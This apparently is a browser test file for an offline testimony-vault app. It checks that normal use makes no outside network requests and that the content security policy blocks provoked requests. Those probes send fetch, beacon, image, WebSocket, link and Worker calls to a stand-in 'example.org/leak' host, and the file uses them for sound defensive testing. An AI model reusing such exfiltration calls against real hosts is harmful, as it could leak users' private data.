import { describe, expect, it } from 'vitest';
import { MERCHANT } from '../fixtures/testimonies.ts';
import { registerPeople, writeInterview } from './support/interview-flows.ts';
import { Researcher } from './support/researcher.ts';
import { toAppUrl } from './support/app-url.ts';

describe('the network', () => {
  it('is never asked for while somebody works, and refuses what the page is made to try', async () => {
    const me = await Researcher.start();
    const requested: string[] = [];
    me.page.on('request', (request) => requested.push(toAppUrl(request.url())));
    await me.makeVault();
    await writeInterview(me, MERCHANT);
    await registerPeople(me, MERCHANT);
    await me.lock();
    await me.unlock();
    expect(requested.length).toBeGreaterThan(0);
    expect(requested.filter((url) => !/^(vouchsafe:\/\/app\/|data:|blob:)/.test(url))).toEqual([]);
    await me.close();
  });

  it.each(['fetch', 'image', 'beacon', 'websocket', 'link', 'worker'])(
    'refuses a provoked %s',
    async (kind) => {
      const me = await Researcher.start();
      const outcome = await me.page.evaluate(async (how) => {
        const address = 'https://example.org/leak';
        const violated = new Promise<string>((resolve) => {
          document.addEventListener(
            'securitypolicyviolation',
            (event) => resolve(event.effectiveDirective),
            { once: true },
          );
        });
        switch (how) {
          case 'fetch':
            await fetch(address).catch(() => undefined);
            break;
          case 'image':
            new Image().src = address;
            break;
          case 'beacon':
            navigator.sendBeacon(address, 'x');
            break;
          case 'websocket':
            try {
              new WebSocket('wss://example.org/leak');
            } catch {
              // Refused at once is as good as refused by event.
            }
            break;
          case 'link': {
            const link = document.createElement('link');
            link.rel = 'stylesheet';
            link.href = address;
            document.head.append(link);
            break;
          }
          default:
            try {
              new Worker(address);
            } catch (error) {
              return String(error);
            }
        }
        return violated;
      }, kind);
      expect(outcome).toMatch(
        /connect-src|img-src|style-src|worker-src|trusted-types|TypeError|SecurityError/,
      );
      await me.launched.close();
      // The page's own handler throws on every violation: exactly these, and nothing else, were seen.
      expect(me.errors.every((error) => error.includes('content security policy'))).toBe(true);
    },
  );
});
